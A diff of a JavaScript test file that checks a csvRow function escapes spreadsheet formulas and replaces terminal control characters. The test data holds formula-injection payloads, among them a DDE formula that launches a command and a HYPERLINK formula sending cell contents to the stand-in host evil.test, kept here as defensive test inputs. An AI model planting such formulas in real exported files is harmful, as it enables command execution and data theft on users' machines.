@@ -12,15 +12,7 @@ test.each([
   ["", ""],
   ["Grüße 日本語 😀", "Grüße 日本語 😀"],
   ["a-b@c.test", "a-b@c.test"],
-])("the text %j becomes the CSV cell %j", (text, cell) =>
-  expect(csvRow([text])).toBe(`${cell}\r\n`),
-);
-
-test("a CSV record joins its cells with commas and leaves missing values empty", () => {
-  expect(csvRow(["a", null, 5, -5, undefined, "b"])).toBe("a,,5,-5,,b\r\n");
-});
-
-test.each([
+  // A spreadsheet would run these as formulas.
   ["=1+1", "'=1+1"],
   ["+44 113 496 0000", "'+44 113 496 0000"],
   ["-2+3", "'-2+3"],
@@ -37,9 +29,13 @@ test.each([
   ["＝1+1", "'＝1+1"],
   ['=cmd|" /C calc"!A0', '"\'=cmd|"" /C calc""!A0"'],
   ['=HYPERLINK("http://evil.test?x="&A1,"x")', '"\'=HYPERLINK(""http://evil.test?x=""&A1,""x"")"'],
-])("the text %j is escaped so that a spreadsheet does not run it as a formula", (text, cell) =>
+])("the text %j becomes the CSV cell %j", (text, cell) =>
   expect(csvRow([text])).toBe(`${cell}\r\n`),
 );
+
+test("a CSV record joins its cells with commas and leaves missing values empty", () => {
+  expect(csvRow(["a", null, 5, -5, undefined, "b"])).toBe("a,,5,-5,,b\r\n");
+});
 
 test("terminal control characters are replaced in CSV output", () => {
   expect(csvRow(["\x1b[31mred\x9b0m\0\u202e"])).toBe("\ufffd[31mred\ufffd0m\ufffd\ufffd\r\n");
